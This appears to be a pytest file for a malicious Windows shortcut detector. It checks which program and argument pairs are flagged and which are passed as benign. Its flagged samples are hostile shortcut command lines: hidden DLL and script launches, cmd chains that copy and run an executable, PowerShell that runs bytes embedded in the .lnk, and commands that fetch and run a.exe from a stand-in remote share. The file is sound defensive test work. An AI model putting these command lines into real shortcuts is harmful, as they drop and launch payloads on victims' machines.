from __future__ import annotations

import pytest
from tests.engines.scripts.samples import shortcut

from lazaretto.engines.scripts import shortcuts, weights
from lazaretto.engines.scripts.signs import Signs
from lazaretto.scripting import shelllink


def seen(program: str, arguments: str, icon: str = "", show: int = 1) -> set[str]:
    signs = Signs(weights.load())
    shortcuts.look(shelllink.read(shortcut(program, arguments, icon, show)), signs)
    return set(signs.seen)


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("rundll32.exe", "hidden\\a.dll,Start"),
        ("wscript.exe", "//b hidden\\a.js"),
        ("cmd.exe", "/c start hidden\\a.exe & start a.pdf"),
        ("cmd.exe", "/c xcopy /h a.dat %tmp% & ren %tmp%\\a.dat a.exe & %tmp%\\a.exe"),
        ("cmd.exe", '/c findstr "XX" a.lnk > %tmp%\\a.txt'),
        ("powershell.exe", "-c iex ([Text.Encoding]::UTF8.GetString((gc .\\a.lnk -Encoding Byte)[3000..9000]))"),
        ("cmd.exe", "/c net use x: \\\\example.invalid\\a & x:\\a.exe"),
        ("explorer.exe", "\\\\example.invalid\\share\\a.exe"),
    ],
)
def test_what_lies_beside_it(program: str, arguments: str) -> None:
    assert "execute.link" in seen(program, arguments)


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("rundll32.exe", "shell32.dll,Control_RunDLL desk.cpl"),
        ("wscript.exe", "C:\\tools\\a.js"),
        ("cmd.exe", '/k "C:\\tools\\env.bat"'),
        ("powershell.exe", '-NoExit -ExecutionPolicy Bypass -File "C:\\Scripts\\menu.ps1"'),
        ("explorer.exe", "\\\\fileserver\\share"),
    ],
)
def test_honest_ones(program: str, arguments: str) -> None:
    assert not seen(program, arguments)


def test_icons_blanks_and_windows() -> None:
    assert seen("cmd.exe", "/c a", "C:\\a.pdf", 7) == {"hide.link", "hide.window"}
    assert seen("cmd.exe", " " * 200 + "/c a") == {"hide.link"}
